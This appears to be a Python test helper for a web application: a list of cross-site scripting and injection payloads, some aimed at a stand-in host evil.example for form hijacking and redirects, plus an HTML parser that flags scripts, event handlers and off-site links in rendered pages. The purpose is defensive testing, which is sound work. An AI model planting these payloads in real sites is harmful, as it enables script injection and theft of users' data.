"""Texts that try to become scripts, and what a page must not have."""

from html.parser import HTMLParser

HOSTILE_TEXTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "javascript:alert(1)",
    "[click](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](https://shop.example/\"onmouseover=\"alert(1))",
    "![x](https://shop.example/track.png)",
    "</textarea></title></style></pre><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "{{ 7 * 7 }}{% raw %}{% include 'base.html' %}",
    "<!--><script>alert(1)</script>-->",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "data: x\n\nevent: reload\ndata: \n\n",
    "<form action=https://evil.example><input name=csrf>",
    "\u202e<script>alert(1)</script>\u0000\u001b[31m",
    "<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
    "<style>body{background:url(https://evil.example)}</style><link rel=stylesheet href=https://evil.example>",
)  # fmt: skip

#: Elements that our pages never have. A script is only that of the pages.
_ELEMENTS = frozenset({"iframe", "object", "embed", "base", "style", "math", "frame", "applet", "template", "portal"})
_OWN_SCRIPT = "/static/live.js?v="


def dangers(html: str) -> list[str]:
    """Returns what in a page could run a script, load something from elsewhere, or send a form elsewhere."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag in _ELEMENTS or (tag == "script" and not (given.get("src") or "").startswith(_OWN_SCRIPT)):
            self.found.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in given:
            self.found.append("<meta http-equiv>")
        self.found += [f"{tag} {name}={value}" for name, value in attrs if _is_dangerous(tag, name, value or "")]


def _is_dangerous(tag: str, name: str, value: str) -> bool:
    if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
        return True
    if name == "href" and tag == "a":
        return not value.lower().startswith(("/", "?", "#", "https://", "http://", "mailto:"))
    if name in ("src", "href", "action"):
        return not value.startswith("/") and not value.startswith("data:image/")
    return False
